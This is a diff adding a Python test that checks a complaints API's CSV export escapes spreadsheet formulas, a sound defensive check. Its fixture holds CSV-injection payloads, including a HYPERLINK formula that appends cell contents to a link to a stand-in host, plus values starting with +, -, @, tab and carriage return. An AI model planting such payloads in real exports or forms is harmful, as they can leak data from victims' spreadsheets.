@@ -73,3 +73,35 @@ def test_export_streams_public_fields_with_the_search_filters(client, published,
 def test_export_rejects_bad_filters(client, index):
     assert client.get("/api/v2/complaints/export.csv", {"date_from": "morgen"}).status_code == 400
     assert client.get("/api/v2/complaints/export.xml").status_code == 404
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://example.invalid/?d="&A1,"Klik")',
+    "description": "+31 20 123 4567 belde ik drie keer, en niemand nam op na het melden.",
+    "desired_outcome": "-2+3 euro terug, of @SUM(A1:A9) in natura",
+}
+
+
+def test_the_csv_export_neutralises_spreadsheet_formulas(client, published, company_index):
+    from companies.factories import CompanyPageFactory
+
+    company = CompanyPageFactory(parent=company_index, title="@Evil B.V.")
+    published(company=company, **FORMULAS)
+    published(title="\tTab voorop", description="\rRegel terug en verder gewoon tekst hier.")
+
+    body = b"".join(client.get("/api/v2/complaints/export.csv").streaming_content).decode()
+    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
+    lines = b"".join(client.get("/api/v2/complaints/export.jsonl").streaming_content).decode()
+    items = [json.loads(line) for line in lines.splitlines()]
+
+    formula = rows["'" + FORMULAS["title"]]
+    assert formula["description"] == "'" + FORMULAS["description"]
+    assert formula["desired_outcome"] == "'" + FORMULAS["desired_outcome"]
+    assert formula["company_name"] == "'@Evil B.V."
+    tab = rows["'\tTab voorop"]
+    assert tab["description"].startswith("'\r")
+    for row in rows.values():
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    # JSON Lines carries the text as it is.
+    assert {item["title"] for item in items} == {FORMULAS["title"], "\tTab voorop"}
